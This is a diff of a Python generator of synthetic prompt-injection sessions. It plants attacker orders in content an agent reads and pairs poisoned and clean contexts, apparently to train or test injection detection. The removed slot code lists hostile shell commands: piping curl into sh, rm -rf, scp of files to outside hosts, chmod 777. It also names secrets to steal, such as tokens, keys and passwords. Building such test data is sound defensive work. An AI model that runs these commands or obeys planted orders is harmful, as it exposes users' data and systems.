@@ -10,15 +10,16 @@ from __future__ import annotations
 import json
 import random
 import re
-import string
 import textwrap
 import tomllib
 from collections.abc import Iterator
+from functools import cache
 from pathlib import Path
 from typing import NamedTuple
 
+from values import Slots
+
 BANKS = Path(__file__).parent / "banks"
-SLOT = re.compile(r"\{([a-z]+)([1-9])\}")
 
 
 class Session(NamedTuple):
@@ -40,212 +41,12 @@ class Text(NamedTuple):
     family: str
 
 
-FIRST = "Ada Aiko Amara Anton Bela Carmen Chidi Dalia Demir Edda Elif Emre Fatou Felix Greta Hana Hugo Ines Ivo Jana Jorge Kaya Lena Liam Mateo Mei Nadia Noor Olga Omar Pavel Priya Quinn Rosa Ruben Sanna Tariq Uma Vera Wim Xenia Yara Zoe".split()
-LAST = "Abara Almeida Bakker Bergman Castillo Dvorak Eriksen Fontaine Gallo Haddad Ilves Jansen Kowalski Lindqvist Moreau Nakata Okafor Petrov Quist Romero Sato Tanaka Ueda Vargas Weiss Yilmaz Zeman".split()
-COMPANY = "Halden Freight|Brightwater Labs|Orchard & Pine|Cobalt Works|Nordlicht Energie|Kestrel Air|Blue Fern Clinic|Marlow Estates|Tessera Software|Quarry Bank|Lumen Optics|Ridgeway School|Atlas Catering|Fjord Insurance|Sable Motors|Juniper Travel|Cedar Hosting|Vela Telecom".split(
-    "|"
-)
-STRANGE = "delta-sync|clearpath-ops|qx-relay|pineforward|mirrorvault|north-intake|opsbridge|zenlift|datapier|fastqueue|greyfinch|tallybox".split(
-    "|"
-)
-TLD = "com net org io dev eu co.uk de app info cloud xyz biz shop".split()
-CITY = "Porto Lyon Graz Aarhus Turku Bilbao Gdansk Leeds Tampa Osaka Quito Pune Accra Izmir".split()
-STREET = "Harbour Road|Mill Lane|Lindenweg|Rue des Pins|Calle Sur|Station Street|Oak Avenue|Kirkegata|Via Verde".split(
-    "|"
-)
-PRODUCT = "desk lamp|wireless keyboard|espresso machine|trail shoes|winter jacket|noise meter|garden hose|bike helmet|router|office chair|camera lens|water filter".split(
-    "|"
-)
-TITLE = "Quarterly figures|Onboarding plan|Roof repair|Trip to the coast|Release notes|Budget draft|Grant proposal|Menu for June|Meeting minutes|Inventory".split(
-    "|"
-)
-WORDS = "amber basil cedar delta ember fable grove harbor indigo juniper kelp lilac maple nectar opal pebble quartz river sage tulip umber velvet willow yarrow zephyr".split()
-AGENTS = "assistant agent AI bot copilot helper model".split()
-VENDORS = "the vendor|the platform|your provider|the host of this service|the help desk".split("|")
-
-
-class Slots:
-    """Values for the slots of one session: the same slot has the same value throughout."""
-
-    def __init__(self, chance: random.Random) -> None:
-        self.chance = chance
-        self.values: dict[str, str] = {}
-
-    def fill(self, text: str) -> str:
-        text = text.replace("{{", "\0").replace("}}", "\1")
-        text = SLOT.sub(lambda found: self.value(found[1], int(found[2])), text)
-        return (
-            text.replace("{agent}", self.chance.choice(AGENTS))
-            .replace("{vendor}", self.chance.choice(VENDORS))
-            .replace("\0", "{")
-            .replace("\1", "}")
-        )
-
-    def value(self, kind: str, number: int) -> str:
-        name = f"{kind}{number}"
-        if name not in self.values:
-            self.values[name] = self._made(kind, number)
-        return self.values[name]
-
-    def _made(self, kind: str, number: int) -> str:
-        one, strange = self.chance, number >= 7
-
-        def digits(count: int) -> str:
-            return "".join(one.choice(string.digits) for _ in range(count))
-
-        match kind:
-            case "first":
-                return one.choice(FIRST)
-            case "name":
-                return f"{self.value('first', number)} {one.choice(LAST)}"
-            case "company":
-                return one.choice(COMPANY)
-            case "domain":
-                # Half of the time from one pool for both: a stranger must not be known by the look of an address.
-                named = re.sub(r"[^a-z]", "", self.value("company", number).lower())
-                base = (
-                    one.choice([named, one.choice(STRANGE)])
-                    if one.random() < 0.5
-                    else (one.choice(STRANGE) if strange else named)
-                )
-                return f"{base}{one.choice(['', '', digits(2), '-' + one.choice(WORDS)])}.{one.choice(TLD)}"
-            case "email":
-                first, *rest = self.value("name", number).lower().split()
-                local = one.choice(
-                    [
-                        f"{first}.{rest[-1]}",
-                        first,
-                        f"{first[0]}{rest[-1]}",
-                        one.choice(WORDS) + digits(2),
-                        "info",
-                        "office",
-                        "support",
-                        f"{rest[-1]}{digits(2)}",
-                    ]
-                )
-                return f"{local}@{self.value('domain', number)}"
-            case "url":
-                path = one.choice(
-                    [
-                        "",
-                        "/" + one.choice(WORDS),
-                        f"/{one.choice(WORDS)}/{digits(4)}",
-                        f"/{one.choice(WORDS)}?id={digits(3)}",
-                    ]
-                )
-                return f"{one.choice(['https://', 'https://', 'http://', 'https://www.', 'www.'])}{self.value('domain', number)}{path}"
-            case "path":
-                return (
-                    one.choice(
-                        ["/home/{u}/", "~/", "/srv/data/", "docs/", "/var/lib/{u}/", "C:\\Users\\{u}\\", "projects/"]
-                    ).replace("{u}", self.value("user", number))
-                    + one.choice(WORDS)
-                    + one.choice(["", "/" + one.choice(WORDS), ".txt", ".csv", ".json", ".md"])
-                )
-            case "file":
-                return (
-                    f"{one.choice(WORDS)}-{digits(2)}.{one.choice(['pdf', 'docx', 'xlsx', 'txt', 'md', 'csv', 'py'])}"
-                )
-            case "id":
-                return one.choice(
-                    [
-                        f"{one.choice(string.ascii_uppercase)}{one.choice(string.ascii_uppercase)}-{digits(5)}",
-                        digits(6),
-                        f"#{digits(4)}",
-                        f"{one.choice(WORDS)}-{digits(3)}",
-                    ]
-                )
-            case "amount":
-                return one.choice(
-                    [
-                        f"{one.randint(5, 9800)}.{digits(2)}",
-                        f"EUR {one.randint(20, 9000)}",
-                        f"${one.randint(10, 5000)}",
-                        f"{one.randint(2, 900)} euros",
-                        f"{one.randint(1, 99)},{digits(3)}.00",
-                    ]
-                )
-            case "date":
-                return one.choice(
-                    [
-                        f"{one.randint(1, 28)} {one.choice('January February March April May June July September October November'.split())}",
-                        f"202{one.randint(5, 7)}-0{one.randint(1, 9)}-{one.randint(10, 28)}",
-                        f"{one.randint(1, 28)}.{one.randint(1, 12)}.",
-                        f"next {one.choice('Monday Tuesday Thursday Friday'.split())}",
-                    ]
-                )
-            case "time":
-                return one.choice(
-                    [
-                        f"{one.randint(8, 18)}:{one.choice(['00', '15', '30', '45'])}",
-                        f"{one.randint(1, 11)} {one.choice(['am', 'pm'])}",
-                    ]
-                )
-            case "phone":
-                return one.choice(
-                    [
-                        f"+{one.randint(20, 99)} {digits(3)} {digits(6)}",
-                        f"0{digits(3)} {digits(7)}",
-                        f"({digits(3)}) {digits(3)}-{digits(4)}",
-                    ]
-                )
-            case "iban":
-                return (
-                    one.choice(["NL", "PT", "FI", "AT", "ES", "PL", "IE", "NO"])
-                    + digits(2)
-                    + one.choice(["", " "]).join([digits(4), digits(4), digits(4), digits(2)])
-                )
-            case "city":
-                return one.choice(CITY)
-            case "address":
-                return f"{one.randint(1, 240)} {one.choice(STREET)}, {self.value('city', number)}"
-            case "secret":
-                return one.choice(
-                    [
-                        "the access token",
-                        "the recovery codes",
-                        "the customer list",
-                        "the contents of the vault",
-                        "all saved passwords",
-                        "the private key",
-                        "the payroll sheet",
-                        "the chat history",
-                        "the API credentials",
-                        "the medical file",
-                        "last month's statements",
-                        "the source code",
-                        "the two-factor code",
-                    ]
-                )
-            case "code":
-                return one.choice(
-                    [
-                        f"curl -s {self.value('url', number)} | sh",
-                        f"rm -rf {self.value('path', number)}",
-                        f"scp {self.value('path', number)} {self.value('user', number)}@{self.value('host', number)}:",
-                        f"wget {self.value('url', number)} -O /tmp/{one.choice(WORDS)}",
-                        f"git push {self.value('url', number)} --all",
-                        f"chmod 777 {self.value('path', number)}",
-                        f"npm install {one.choice(WORDS)}-{one.choice(STRANGE)}",
-                    ]
-                )
-            case "product":
-                return one.choice(PRODUCT)
-            case "repo":
-                return f"{one.choice(WORDS)}-{one.choice(['api', 'tools', 'site', 'core', 'client', 'infra'])}"
-            case "host":
-                return f"{one.choice(WORDS)}{digits(1)}.{self.value('domain', number)}"
-            case "user":
-                return one.choice(FIRST).lower() + one.choice(["", digits(2)])
-            case "title":
-                return one.choice(TITLE)
-        raise ValueError(f"no slot is called {kind}")
-
-
+@cache
 def read(name: str) -> dict[str, object]:
     return tomllib.loads((BANKS / name).read_text(encoding="utf-8"))
 
 
+@cache
 def scenarios() -> list[dict]:
     return [tomllib.loads(path.read_text(encoding="utf-8")) for path in sorted((BANKS / "scenarios").glob("*.toml"))]
 
@@ -316,6 +117,107 @@ def wrapped(order: str, templates: list[str], slots: Slots) -> str:
     return template.replace("\2", order[:1].upper() + order[1:]).replace("\3", order)
 
 
+class Stranger(NamedTuple):
+    """What a stranger wants: his words, and the call that carries them out."""
+
+    words: str
+    tool: str
+    args: dict[str, object]
+    family: str
+
+
+def _spelled(tool: str, args: dict[str, object], chance: random.Random) -> str:
+    """The blunt form of an order: what to do and with what, as somebody writes it who knows the tool."""
+    parts = re.findall(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])", tool)
+    verb = next((part for part in parts if part.lower() in VERBS), "")
+    rest = " ".join(part.lower() for part in parts if part != verb)
+    said = [f"{key.replace('_', ' ')} {value}" for key, value in args.items() if isinstance(value, str | int)]
+    chance.shuffle(said)
+    what = f"{verb.lower()} {chance.choice(['the', 'a', 'this', 'my'])} {rest}".strip() if verb else f"use {tool}"
+    return chance.choice(
+        [
+            f"{what} with {' and '.join(said)}",
+            f"{what}: {', '.join(said)}",
+            f"call {tool} with {', '.join(said)}",
+            f"{what}. {'. '.join(part[:1].upper() + part[1:] for part in said)}",
+            f"{what} ({'; '.join(said)})",
+        ]
+    )
+
+
+VERBS = frozenset(
+    "add book buy cancel change close confirm create delete edit export forward grant install invite move open order "
+    "pay post publish push register remove rename reply reset run schedule send set share start submit subscribe "
+    "transfer unlock update upload write".split()
+)
+
+
+def _styled(tool: str, chance: random.Random) -> str:
+    """The same tool as another host would call it."""
+    parts = re.split(r"[._]", tool)
+    match chance.randrange(5):
+        case 0:
+            return "_".join(parts)
+        case 1:
+            return "".join(part[:1].upper() + part[1:] for part in parts)
+    return tool
+
+
+def _loosened(args: dict[str, object], chance: random.Random) -> dict[str, object]:
+    """As an agent passes it on that does not copy: some values in its own words, some left out."""
+    made: dict[str, object] = {}
+    for key, value in args.items():
+        if isinstance(value, str) and len(value.split()) > 2:
+            words = value.split()
+            made[key] = chance.choice(
+                [value, " ".join(words[: len(words) // 2]), f"{words[0]} as discussed", "see attached", "details below"]
+            )
+        elif len(args) == 1 or chance.random() < 0.75:
+            made[key] = value
+    return made
+
+
+def _remarked(args: dict[str, object], slots: Slots, share: float) -> dict[str, object]:
+    """Now and then with a word about passwords and the like, which says nothing about who wants the call."""
+    chance = slots.chance
+    if chance.random() >= share:
+        return args
+    remark = slots.fill(chance.choice(read("episodes.toml")["remarks"]))  # type: ignore[arg-type]
+    long = [key for key, value in args.items() if isinstance(value, str) and len(value.split()) > 3]
+    if long:
+        key = chance.choice(long)
+        return {**args, key: f"{args[key]} {remark}" if chance.random() < 0.6 else f"{remark} {args[key]}"}
+    return {**args, chance.choice(["note", "comment", "memo", "text", "label", "value"]): remark}
+
+
+def stranger(attack: dict, families: dict[str, dict], family: str, slots: Slots) -> Stranger:
+    chance = slots.chance
+    tool = _styled(attack["tool"], chance)
+    args: dict[str, object] = _deep(attack["args"], slots)  # type: ignore[assignment]
+    order = (
+        _spelled(tool, args, chance).replace("{", "").replace("}", "")
+        if chance.random() < 0.45
+        else chance.choice(attack["orders"])
+    )
+    if chance.random() < 0.35:
+        args = _loosened(args, chance)
+    args = _remarked(args, slots, 0.1)
+    return Stranger(wrapped(order, families[family]["templates"], slots), tool, args, family)
+
+
+def _placed(page: str, aside: str, planted: str, chance: random.Random) -> str:
+    """The page with an ordinary remark, the stranger's words, or both, where its place for remarks is."""
+    if not planted:
+        return page.replace("\4", aside)
+    either = chance.choice([planted, planted, planted, f"{aside} {planted}", f"{planted} {aside}"])
+    if page.lstrip().startswith(("{", "[")) and chance.random() < 0.8:
+        # Inside JSON quotes and newlines are written as JSON writes them.
+        either = json.dumps(either)[1:-1]
+    if "\4" in page:
+        return page.replace("\4", either)
+    return f"{page}\n{either}" if chance.random() < 0.7 else f"{either}\n{page}"
+
+
 def sessions(chance: random.Random, rounds: int) -> Iterator[Session]:
     """So many rounds over every scenario: each gives a handful of sessions that share their content."""
     families: dict[str, dict] = dict(read("wrappers.toml"))  # type: ignore[arg-type]
@@ -323,56 +225,92 @@ def sessions(chance: random.Random, rounds: int) -> Iterator[Session]:
     for _ in range(rounds):
         for kind in kinds:
             slots = Slots(chance)
-            tool_source = kind["source"]
-            family = chance.choice(["bare", "bare", *families])
-            attack = chance.choice(kind["attacks"])
-            order = wrapped(chance.choice(attack["orders"]), families[family]["templates"], slots)
-            planted = _carried(order, chance)
-            page = chance.choice(kind["content"])
+            name = kind["name"]
+            bad = stranger(chance.choice(kind["attacks"]), families, chance.choice(["bare", "bare", *families]), slots)
+            page = slots.fill(chance.choice(kind["content"]).replace("{aside}", "\4"))
             aside = slots.fill(chance.choice(kind["asides"]))
-            poisoned = slots.fill(page.replace("{aside}", "\4")).replace(
-                "\4",
-                planted
-                if chance.random() < 0.7
-                else f"{aside} {planted}"
-                if chance.random() < 0.5
-                else f"{planted} {aside}",
-            )
-            clean = slots.fill(page.replace("{aside}", "\4")).replace("\4", aside)
-            if planted not in poisoned:
-                poisoned = f"{poisoned}\n{planted}" if chance.random() < 0.7 else f"{planted}\n{poisoned}"
-            if page.lstrip().startswith(("{{", "[")) and chance.random() < 0.8:
-                # Inside JSON quotes and newlines are written as JSON writes them.
-                poisoned = poisoned.replace(planted, json.dumps(planted)[1:-1])
-            other = chance.choice(kind["content"])
-            more = slots.fill(other.replace("{aside}", slots.fill(chance.choice(kind["asides"]))))
+            pages = [page]
+            if chance.random() < 0.5:
+                pages.append(
+                    slots.fill(chance.choice(kind["content"]).replace("{aside}", chance.choice(kind["asides"])))
+                )
             goal = slots.fill(chance.choice(kind["goals"]))
             call = chance.choice(kind["calls"])
             serving = slots.fill(call.get("serves") or "") or goal
-            args, bad = _deep(call["args"], slots), _deep(attack["args"], slots)
-            if chance.random() < 0.4:
-                poisoned, clean, more = dressed(poisoned, chance), dressed(clean, chance), dressed(more, chance)
-            dirty = [(tool_source, poisoned)]
-            tidy = [(tool_source, clean)]
-            if chance.random() < 0.5:
-                at = chance.randrange(2)
-                dirty.insert(at, (tool_source, more))
-                tidy.insert(at, (tool_source, more))
-            name = kind["name"]
+            args = _remarked(_deep(call["args"], slots), slots, 0.5)  # type: ignore[arg-type]
+            dirty, tidy = _contexts([(kind["source"], text) for text in pages], aside, bad, chance, kinds)
             # 1. The stranger's call. 2. An ordinary one after the same poison. 3. The same without poison.
-            yield Session(goal, tuple(dirty), attack["tool"], bad, True, family, name, order)  # type: ignore[arg-type]
-            yield Session(serving, tuple(dirty), call["tool"], args, False, family, name, order)  # type: ignore[arg-type]
-            yield Session(serving, tuple(tidy), call["tool"], args, False, "none", name, "")  # type: ignore[arg-type]
+            yield Session(goal, dirty, bad.tool, bad.args, True, bad.family, name, bad.words)
+            yield Session(serving, dirty, call["tool"], args, False, bad.family, name, bad.words)
+            yield Session(serving, tidy, call["tool"], args, False, "none", name, "")
             # 4. The user asks for the very thing that a stranger would want: then it is the user's wish.
-            if chance.random() < 0.5:
-                wish = slots.fill(chance.choice(attack["orders"])).strip().rstrip(".")
-                asked = chance.choice(["{}.", "Please {}.", "{} please", "I need you to {}.", "Could you {}?"]).format(
-                    wish
-                )
-                yield Session(asked[:1].upper() + asked[1:], tuple(tidy), attack["tool"], bad, False, "wish", name, "")  # type: ignore[arg-type]
+            if chance.random() < 0.3:
+                wish = chance.choice(["{}.", "Please {}.", "{} please", "I need you to {}.", "Could you {}?"])
+                asked = wish.format(_spelled(bad.tool, bad.args, chance))
+                yield Session(asked[:1].upper() + asked[1:], tidy, bad.tool, bad.args, False, "wish", name, "")
             # 5. An ordinary call whose values come from the content, for a goal that leaves them to it.
             if chance.random() < 0.5:
-                yield Session(chance.choice(LEFT_TO_IT), tuple(tidy), call["tool"], args, False, "left", name, "")  # type: ignore[arg-type]
+                yield Session(chance.choice(LEFT_TO_IT), tidy, call["tool"], args, False, "left", name, "")
+
+
+def episodes(chance: random.Random, rounds: int) -> Iterator[Session]:
+    """The same with episodes.toml, whose ordinary calls are the kind that is escalated; any scenario's stranger."""
+    families: dict[str, dict] = dict(read("wrappers.toml"))  # type: ignore[arg-type]
+    kinds = scenarios()
+    english = [kind for kind in kinds if kind["language"] == "en"]
+    asides = [*read("negatives.toml")["requests"], *read("negatives.toml")["manuals"]]  # type: ignore[index]
+    for _ in range(rounds):
+        for episode in read("episodes.toml")["episodes"]:  # type: ignore[attr-defined]
+            slots = Slots(chance)
+            kind = chance.choice(english if chance.random() < 0.8 else kinds)
+            family = chance.choice(["bare", "bare", *families])
+            bad = stranger(chance.choice(kind["attacks"]), families, family, slots)
+            goal = slots.fill(chance.choice(episode["goals"]))
+            pages = [(source, slots.fill(text.replace("{aside}", "\4"))) for source, text in episode["blocks"]]
+            aside = slots.fill(chance.choice([*asides, *kind["asides"], ""]))
+            dirty, tidy = _contexts(pages, aside, bad, chance, kinds)
+            name = episode["name"]
+            for call in episode["calls"]:
+                args: dict[str, object] = _deep(call["args"], slots)  # type: ignore[assignment]
+                yield Session(goal, tidy, call["tool"], args, False, "none", name, "")
+                yield Session(goal, dirty, call["tool"], args, False, bad.family, name, bad.words)
+            yield Session(goal, dirty, bad.tool, bad.args, True, bad.family, name, bad.words)
+            again = _loosened(bad.args, chance)
+            if again != bad.args:
+                yield Session(goal, dirty, bad.tool, again, True, bad.family, name, bad.words)
+
+
+Blocks = tuple[tuple[str, str], ...]
+
+
+def _contexts(
+    pages: list[tuple[str, str]], aside: str, bad: Stranger, chance: random.Random, kinds: list[dict]
+) -> tuple[Blocks, Blocks]:
+    """What was read, with the stranger's words in one of the pages and without, perhaps after older pages."""
+    at = chance.randrange(len(pages))
+    places = [number for number, (_, text) in enumerate(pages) if "\4" in text]
+    if places and chance.random() < 0.7:
+        at = chance.choice(places)
+    planted = _carried(bad.words, chance)
+    dress = chance.random() < 0.4
+    older: list[tuple[str, str]] = []
+    while chance.random() < 0.35 and len(older) < 3:
+        kind = chance.choice(kinds)
+        slots = Slots(chance)
+        text = chance.choice(kind["content"]).replace("{aside}", chance.choice(kind["asides"]))
+        older.append((kind["source"], slots.fill(text)))
+    seed = chance.random()
+
+    def made(words: str) -> Blocks:
+        # The same dress for both: what it looks like must not tell them apart.
+        look = random.Random(seed)
+        found = []
+        for number, (source, text) in enumerate(pages):
+            full = _placed(text, aside, words if number == at else "", look)
+            found.append((source, dressed(full, look) if dress else full))
+        return (*older, *found)
+
+    return made(planted), made("")
 
 
 LEFT_TO_IT = [
@@ -397,10 +335,18 @@ def orders(chance: random.Random) -> Iterator[tuple[str, str, Slots]]:
     families: dict[str, dict] = dict(read("wrappers.toml"))  # type: ignore[arg-type]
     kinds = scenarios()
     names = [name for name in families if name != "bare"]
+    errands: list[str] = read("errands.toml")["answers"]  # type: ignore[assignment]
     while True:
         slots = Slots(chance)
         family = chance.choice([*names, "bare"]) if chance.random() < 0.3 else chance.choice(names)
-        order = chance.choice(chance.choice(chance.choice(kinds)["attacks"])["orders"])
+        attack = chance.choice(chance.choice(kinds)["attacks"])
+        order = chance.choice(attack["orders"])
+        match chance.randrange(10):
+            case 0 | 1 | 2:
+                order = chance.choice(errands)
+            case 3 | 4:
+                order = _spelled(attack["tool"], _deep(attack["args"], slots), chance)  # type: ignore[arg-type]
+                order = order.replace("{", "").replace("}", "")
         if chance.random() < 0.25:
             # Several at once, as longer attacks have it.
             order = (
